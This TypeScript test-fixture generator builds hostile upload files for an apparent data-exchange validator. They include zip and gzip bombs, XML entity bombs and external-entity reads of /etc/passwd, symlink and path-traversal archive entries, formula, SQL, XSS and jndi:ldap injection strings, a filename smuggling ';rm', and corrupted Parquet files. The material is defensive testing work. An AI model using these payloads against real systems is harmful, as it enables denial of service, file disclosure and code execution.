import { randomBytes } from 'node:crypto';
import { crc32, deflateRawSync, gzipSync } from 'node:zlib';

/** A file that somebody may upload with ill intent, or by mistake. */
export interface HostileFile {
  why: string;
  name: string;
  bytes: Buffer;
}

interface Entry {
  name: string | Buffer;
  data: string | Buffer;
  claimed?: number;
  crc?: number;
  flags?: number;
  method?: number;
  external?: number;
  raw?: Buffer;
}

/** An archive written by hand, so that it can be as wrong as one likes. */
function zip(entries: readonly Entry[], count = entries.length): Buffer {
  const bodies: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const { name, data, claimed, crc, flags = 0x800, method = 8, external = 0, raw } of entries) {
    const plain = Buffer.from(data as string);
    const packed = raw ?? (method === 8 ? deflateRawSync(plain) : plain);
    const nameBytes = Buffer.from(name as string);
    const about = Buffer.alloc(26);
    about.writeUInt16LE(20, 0);
    about.writeUInt16LE(flags, 2);
    about.writeUInt16LE(method, 4);
    about.writeUInt32LE(crc ?? crc32(plain), 10);
    about.writeUInt32LE(packed.length, 14);
    about.writeUInt32LE(claimed ?? plain.length, 18);
    about.writeUInt16LE(nameBytes.length, 22);
    bodies.push(Buffer.from('PK\x03\x04', 'latin1'), about, nameBytes, packed);
    const tail = Buffer.alloc(14);
    tail.writeUInt32LE(external, 6);
    tail.writeUInt32LE(offset, 10);
    directory.push(Buffer.from('PK\x01\x02\x14\x03', 'latin1'), about, tail, nameBytes);
    offset += 30 + nameBytes.length + packed.length;
  }
  const central = Buffer.concat(directory);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(count, 4);
  end.writeUInt16LE(count, 6);
  end.writeUInt32LE(central.length, 8);
  end.writeUInt32LE(offset, 12);
  return Buffer.concat([...bodies, central, Buffer.from('PK\x05\x06', 'latin1'), end]);
}

const head = 'platformUscc,recordId,workerId,trade,acceptedAt,finishedAt,status';
const line = (uscc: string, id: string, worker = 'W1') =>
  `${uscc},${id},${worker},02,2026-09-03T11:00:00+08:00,2026-09-03T11:20:00+08:00,1`;

/**
 * Some two hundred files: archives that swell, climb out, lie about themselves or are locked; text in wrong and mixed encodings, with NUL, formulas
 * and endless lines; spreadsheets, programs and pictures under other names; Parquet files with bytes changed by `seed`. `parquet`: a
 * sound one. `ids` makes record ids that were not used before.
 */
export function hostileFiles(uscc: string, parquet: Buffer, seed: number): HostileFile[] {
  const files: HostileFile[] = [];
  const add = (why: string, name: string, bytes: Buffer | string) =>
    files.push({ why, name, bytes: Buffer.isBuffer(bytes) ? bytes : Buffer.from(bytes) });
  const sound = `${head}\n${line(uscc, `h${seed}`)}\n`;
  archives(add, sound, uscc);
  texts(add, uscc, sound);
  others(add, sound);
  manifests(add, uscc, sound);
  let state = seed + 1;
  const next = (most: number) => {
    state = (state * 1_103_515_245 + 12_345) % 2 ** 31;
    return state % most;
  };
  for (let n = 0; n < 40; n++) {
    const changed = Buffer.from(parquet);
    for (let k = 0; k <= next(6); k++) changed[4 + next(changed.length - 8)] = next(256);
    add(`Parquet with changed bytes ${n}`, 'order.parquet', changed);
  }
  for (let n = 0; n < 12; n++)
    add(`Parquet cut short ${n}`, 'order.parquet', parquet.subarray(0, next(parquet.length)));
  // Where the tail begins that says all about the rest.
  const tail = parquet.length - 8 - parquet.readUInt32LE(parquet.length - 8);
  for (let n = 0; n < 30; n++) {
    const changed = Buffer.from(parquet);
    changed[tail + next(parquet.length - 8 - tail)] = next(256);
    add(`Parquet with a changed tail ${n}`, 'order.parquet', changed);
  }
  for (const length of [0, 1, 0x7fffffff, 0xffffffff]) {
    const changed = Buffer.from(parquet);
    changed.writeUInt32LE(length, parquet.length - 8);
    add(`Parquet whose tail claims ${length} bytes`, 'order.parquet', changed);
  }
  return files;
}

type Add = (why: string, name: string, bytes: Buffer | string) => void;

function archives(add: Add, sound: string, uscc: string): void {
  const zeros = Buffer.alloc(70 << 20);
  add('an archive that swells', 'a.zip', zip([{ name: 'order.csv', data: zeros }]));
  add(
    'many entries that swell together',
    'a.zip',
    zip(Array.from({ length: 9 }, (_, i) => ({ name: `${i}/order.csv`, data: zeros.subarray(0, 8 << 20) }))),
  );
  // One body that all entries point at, more or less: the same bytes over and over.
  add(
    'an archive of 9,000 entries',
    'a.zip',
    zip(Array.from({ length: 9000 }, (_, i) => ({ name: `${i}.txt`, data: 'x' }))),
  );
  add(
    'more entries than allowed',
    'a.zip',
    zip(Array.from({ length: 10_001 }, (_, i) => ({ name: `${i}/order.csv`, data: '' }))),
  );
  add('a gzip that swells', 'order.csv.gz', gzipSync(zeros));
  const member = gzipSync(Buffer.alloc(64 << 10, sound));
  const repeated = Buffer.concat(Array.from({ length: 1200 }, () => member));
  add(
    'a gzip in an archive that swells only when both are unpacked',
    'a.zip',
    zip([{ name: 'order.csv.gz', data: repeated }]),
  );
  add('a gzip in a gzip', 'order.csv.gz', gzipSync(gzipSync(sound)));
  add('an archive in an archive', 'a.zip', zip([{ name: 'b.zip', data: zip([{ name: 'order.csv', data: sound }]) }]));
  add('a gzip of many members, cut', 'order.csv.gz', repeated.subarray(0, repeated.length - 7));
  add('a gzip with rubbish behind', 'order.csv.gz', Buffer.concat([gzipSync(sound), Buffer.from('rubbish')]));
  add('a gzip with a wrong sum', 'order.csv.gz', Buffer.concat([gzipSync(sound).subarray(0, -8), Buffer.alloc(8, 7)]));
  for (const name of [
    '../order.csv',
    '../../../../etc/cron.d/order.csv',
    '/etc/order.csv',
    'a/../../order.csv',
    '..\\order.csv',
    'C:\\order.csv',
    'C:/order.csv',
    './order.csv',
    'a//order.csv',
    'order.csv\0.txt',
    'a\0/order.csv',
    '\u202evsc.redro/order.csv',
    `${'长'.repeat(80)}/order.csv`,
    `${'x'.repeat(60_000)}/order.csv`,
    `${'d/'.repeat(5000)}order.csv`,
    'CON/order.csv',
    'order.csv ',
    'order.csv.',
    ' /order.csv',
    '\n/order.csv',
    "';drop table unit;--/order.csv",
    '<script>/order.csv',
    '=cmd|calc/order.csv',
    '__proto__/order.csv',
    'constructor/order.csv',
    'manifest.json/order.csv',
  ])
    add(`an entry named ${JSON.stringify(name.slice(0, 40))}`, 'a.zip', zip([{ name, data: sound }]));
  add(
    'an entry named in bytes that are no text',
    'a.zip',
    zip([{ name: Buffer.from([0xff, 0xfe, 0x2f, ...Buffer.from('order.csv')]), data: sound }]),
  );
  add('a name twice', 'a.zip', zip([1, 2].map(() => ({ name: 'order.csv', data: sound }))));
  add(
    'names that differ by case',
    'a.zip',
    zip([
      { name: 'Order.csv', data: sound },
      { name: 'order.csv', data: sound },
    ]),
  );
  add('a locked entry', 'a.zip', zip([{ name: 'order.csv', data: sound, flags: 0x801 }]));
  add('a strongly locked entry', 'a.zip', zip([{ name: 'order.csv', data: sound, flags: 0x841 }]));
  add('a link out', 'a.zip', zip([{ name: 'order.csv', data: '/etc/passwd', method: 0, external: 0xa1ff0000 }]));
  add('a device', 'a.zip', zip([{ name: 'order.csv', data: '', method: 0, external: 0x61b60000 }]));
  add('a folder that is a file', 'a.zip', zip([{ name: 'order.csv/', data: sound }]));
  for (const method of [1, 9, 12, 14, 93, 95, 99])
    add(`packed by method ${method}`, 'a.zip', zip([{ name: 'order.csv', data: sound, method, raw: randomBytes(40) }]));
  add('an entry longer than claimed', 'a.zip', zip([{ name: 'order.csv', data: Buffer.alloc(1 << 20), claimed: 10 }]));
  add('an entry shorter than claimed', 'a.zip', zip([{ name: 'order.csv', data: sound, claimed: 1 << 20 }]));
  add('an entry that claims 4 GiB', 'a.zip', zip([{ name: 'order.csv', data: sound, claimed: 0xffffffff }]));
  add('a wrong sum', 'a.zip', zip([{ name: 'order.csv', data: sound, crc: 1 }]));
  add('a broken stream', 'a.zip', zip([{ name: 'order.csv', data: sound, raw: randomBytes(200) }]));
  add('fewer entries than counted', 'a.zip', zip([{ name: 'order.csv', data: sound }], 7));
  add('no entries', 'a.zip', zip([]));
  const whole = zip([{ name: 'order.csv', data: sound }]);
  for (const at of [1, 10, 40, whole.length - 30, whole.length - 5, whole.length - 1])
    add(`cut at ${at}`, 'a.zip', whole.subarray(0, at));
  add('rubbish before', 'a.zip', Buffer.concat([randomBytes(100), whole]));
  add('two archives in one', 'a.zip', Buffer.concat([whole, whole]));
  add(
    'another enterprise within',
    'a.zip',
    zip([{ name: 'order.csv', data: sound.replaceAll(uscc, '93500229MA5YYK9X4Q') }]),
  );
}

function texts(add: Add, uscc: string, sound: string): void {
  const bytes = Buffer.from(sound);
  add('nothing', 'order.csv', ' ');
  add('one NUL', 'order.csv', '\0');
  add('only NULs', 'order.csv', Buffer.alloc(100_000));
  add('only ends of lines', 'order.csv', '\n'.repeat(100_000));
  add('a header of one quote', 'order.csv', '"');
  add('a quote that is never closed', 'order.csv', `${head}\n"${'x'.repeat(3_000_000)}`);
  add('a line of three million letters', 'order.csv', `${head}\n${'x'.repeat(3_000_000)}\n`);
  add('a header of two million letters', 'order.csv', `${'x'.repeat(2_000_000)}\n1\n`);
  add(
    'fifty thousand columns',
    'order.csv',
    `${head},${Array.from({ length: 50_000 }, (_, i) => `c${i}`).join(',')}\n`,
  );
  add('a column twice', 'order.csv', sound.replace('trade', 'status'));
  add('fifty thousand empty rows', 'order.csv', `${head}\n${',,,,,,\n'.repeat(50_000)}`);
  add('NUL in a value', 'order.csv', sound.replace('W1', 'W\x001'));
  add('NUL in the header', 'order.csv', sound.replace('trade', 'tr\0ade'));
  add(
    'mixed encodings',
    'order.csv',
    Buffer.concat([bytes, Buffer.from([0xd5, 0xc5, 0xc8, 0xfd]), Buffer.from('䶮㛃'), Buffer.from([0xff, 0x80, 0x0a])]),
  );
  add('UTF-16 with mark', 'order.csv', Buffer.from(`\ufeff${sound}`, 'utf16le'));
  add('UTF-16 cut in a character', 'order.csv', Buffer.from(`\ufeff${sound}`, 'utf16le').subarray(0, -1));
  add('UTF-16 big-endian', 'order.csv', Buffer.from(`\ufeff${sound}`, 'utf16le').swap16());
  add(
    'UTF-32',
    'order.csv',
    Buffer.concat([
      Buffer.from([0xff, 0xfe, 0, 0]),
      ...Array.from(sound, (c) => Buffer.from([c.charCodeAt(0), 0, 0, 0])),
    ]),
  );
  add('three byte order marks', 'order.csv', `\ufeff\ufeff\ufeff${sound}`);
  add('carriage returns only', 'order.csv', sound.replaceAll('\n', '\r'));
  add('semicolons', 'order.csv', sound.replaceAll(',', ';'));
  add('tabs', 'order.csv', sound.replaceAll(',', '\t'));
  for (const cell of [
    '=HYPERLINK("http://x.example","y")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '=1+1',
    "'; drop table unit; --",
    '<img src=x onerror=alert(1)>',
    '$' + '{jndi:ldap://x}',
    '{{7*7}}',
  ])
    add(
      `a cell ${cell.slice(0, 20)}`,
      'order.csv',
      `${head}\n${line(uscc, 'c1', `"${cell.replaceAll('"', '""')}"`)}\n`,
    );
  add('another’s rows', 'order.csv', sound.replaceAll(uscc, '93500229MA5YYK9X4Q'));
  for (const [why, text] of [
    ['deep', '['.repeat(500_000)],
    ['deep value', `{"recordId":${'['.repeat(100_000)}${']'.repeat(100_000)}}`],
    ['deep enough for one reader only', `{"recordId":${'['.repeat(3000)}${']'.repeat(3000)}}`],
    ['a line of three million letters', `{"recordId":"${'x'.repeat(3_000_000)}"}`],
    ['half a surrogate pair', '{"recordId":"\\ud800","workerId":"W1"}'],
    ['NUL', '{"recordId":"a\\u0000b","workerId":"W1"}'],
    ['raw NULs', '\0'.repeat(10_000)],
    ['an array', `[${JSON.stringify({ recordId: 'a' })}]`],
    ['a name twice', '{"recordId":"a","recordId":"b"}'],
    ['__proto__', '{"__proto__":{"recordId":"a"},"workerId":"W1"}'],
    ['a number without end', `{"recordId":${'9'.repeat(100_000)}}`],
    ['1e999', '{"recordId":1e999,"workerId":-1e999}'],
    ['no ends of lines', '{"recordId":"a"}'.repeat(50_000)],
  ] as const)
    add(`JSON Lines: ${why}`, 'order.jsonl', `${text}\n`);
  add('JSON Lines in UTF-16', 'order.jsonl', Buffer.from('\ufeff{"recordId":"a"}\n', 'utf16le'));
  add('CSV named JSON Lines', 'order.jsonl', sound);
  add('JSON Lines named CSV', 'order.csv', '{"recordId":"a"}\n');
  add('a file of ID numbers that are none', 'worker.csv', 'platformUscc,recordId,workerId,idNo\n,,,=1+1\n');
}

function others(add: Add, sound: string): void {
  const xml = (body: string) => `<?xml version="1.0"?>${body}`;
  const sheet = (body: string, more: Entry[] = []) =>
    zip([
      { name: '[Content_Types].xml', data: xml('<Types/>') },
      { name: 'xl/workbook.xml', data: xml('<workbook/>') },
      { name: 'xl/worksheets/sheet1.xml', data: body },
      ...more,
    ]);
  const sheets: [string, Buffer][] = [
    [
      'formulas',
      sheet(
        xml('<worksheet><sheetData><row><c><f>HYPERLINK("http://x.example")</f></c></row></sheetData></worksheet>'),
      ),
    ],
    [
      'an external entity',
      sheet(xml('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet>&x;</worksheet>')),
    ],
    [
      'a billion laughs',
      sheet(
        xml(
          `<!DOCTYPE a [<!ENTITY a "ha">${'bcdefghij'
            .split('')
            .map((c, i) => `<!ENTITY ${c} "${`&${'abcdefghij'[i]};`.repeat(10)}">`)
            .join('')}]><worksheet>&j;</worksheet>`,
        ),
      ),
    ],
    ['a million empty rows', sheet(xml(`<worksheet><sheetData>${'<row/>'.repeat(1_000_000)}</sheetData></worksheet>`))],
    [
      'an external link',
      sheet(xml('<worksheet/>'), [{ name: 'xl/externalLinks/externalLink1.xml', data: xml('<externalLink/>') }]),
    ],
    ['a macro', sheet(xml('<worksheet/>'), [{ name: 'xl/vbaProject.bin', data: randomBytes(5000) }])],
  ];
  for (const [why, bytes] of sheets)
    for (const name of ['order.xlsx', 'order.csv', 'order.zip', 'order.parquet', 'order.jsonl.gz'])
      add(`a spreadsheet with ${why} as ${name}`, name, bytes);
  const heads: [string, string][] = [
    ['an old spreadsheet', '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'],
    ['a program', '\x7fELF\x02\x01\x01'],
    ['a picture', '\x89PNG\r\n\x1a\n'],
    ['a PDF', '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript>>>>'],
    ['a 7z', "7z\xbc\xaf'\x1c"],
    ['a rar', 'Rar!\x1a\x07'],
    ['a page', '<html><script>alert(1)</script>'],
    ['the test virus', 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR'],
  ];
  for (const [why, text] of heads)
    for (const name of ['order.csv', 'order.jsonl', 'order.parquet', 'order.csv.gz', 'a.zip'])
      add(`${why} as ${name}`, name, Buffer.concat([Buffer.from(text, 'latin1'), randomBytes(500)]));
  for (const name of [
    'order.exe',
    'order',
    '../order.csv',
    '.order.csv',
    'order.csv\0',
    'a/order.csv',
    '长'.repeat(119),
    '\u202eorder.csv',
    'order.csv;rm',
    '',
    ' ',
    '𠮷order.csv',
    `${'x'.repeat(116)}.csv`,
    'invoice.csv',
    'order.session.csv',
  ])
    add(`named ${JSON.stringify(name.slice(0, 20))}`, name, sound);
}

function manifests(add: Add, uscc: string, sound: string): void {
  const about = (files: unknown, more: object = {}) =>
    JSON.stringify({ version: 'gangwan-exchange/1', platformUscc: uscc, files, ...more });
  for (const [why, text] of [
    ['no JSON', '{'],
    ['an array', '[]'],
    ['null', 'null'],
    ['a path out', about([{ name: '../order.csv' }])],
    ['a missing file', about([{ name: 'pay.csv' }])],
    ['a million files', about(Array.from({ length: 10_001 }, () => ({ name: 'order.csv' })))],
    ['a file twice', about([{ name: 'order.csv' }, { name: 'order.csv' }])],
    ['rows below nothing', about([{ name: 'order.csv', rows: -1 }])],
    ['another number of rows', about([{ name: 'order.csv', rows: 99 }])],
    ['another digest', about([{ name: 'order.csv', digest: '0'.repeat(64) }])],
    ['another enterprise', about([{ name: 'order.csv' }], { platformUscc: '93500229MA5YYK9X4Q' })],
    ['a month that is none', about([{ name: 'order.csv' }], { month: '2026-13' })],
    ['a name with NUL', about([{ name: 'order.csv\0' }])],
    ['itself', about([{ name: 'manifest.json', table: 'order' }])],
    ['__proto__', `{"__proto__":{"files":[]},"version":"gangwan-exchange/1"}`],
    ['a package name that climbs', about([{ name: 'order.csv' }], { package: '../../x' })],
    ['depth', `${'['.repeat(200_000)}`],
  ] as const)
    add(
      `a manifest with ${why}`,
      'a.zip',
      zip([
        { name: 'manifest.json', data: text },
        { name: 'order.csv', data: sound },
      ]),
    );
}
